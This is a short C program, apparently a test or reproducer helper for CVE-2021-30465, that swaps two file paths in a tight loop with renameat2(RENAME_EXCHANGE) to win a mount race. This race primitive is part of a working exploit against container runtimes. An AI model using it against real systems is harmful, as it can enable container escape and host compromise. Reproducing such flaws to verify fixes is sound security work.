/* swap SECONDS A B: exchanges two names as fast as it can (CVE-2021-30465). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>

int main(int argc, char **argv)
{
	time_t end = time(NULL) + (argc > 3 ? atoi(argv[1]) : 0);
	long count = 0;

	puts("ready");
	fflush(stdout);
	while (time(NULL) < end)
		for (int i = 0; i < 100; i++)
			count += renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE) == 0;
	printf("swapped %ld\n", count);
	return 0;
}
